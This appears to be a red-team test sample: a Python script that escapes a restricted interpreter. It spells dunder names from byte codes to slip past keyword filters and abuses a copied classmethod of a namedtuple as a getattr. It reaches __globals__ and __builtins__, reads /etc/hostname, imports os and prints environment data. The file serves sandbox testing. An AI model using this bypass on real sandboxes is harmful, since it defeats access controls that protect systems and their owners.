# family: red team, round 36 (copy.copy of classmethod(namedtuple class named at run time))
import collections
import copy


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


Lookup = collections.namedtuple(dunder("getattribute"), "a")


class Box:
    lookup = classmethod(Lookup)


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
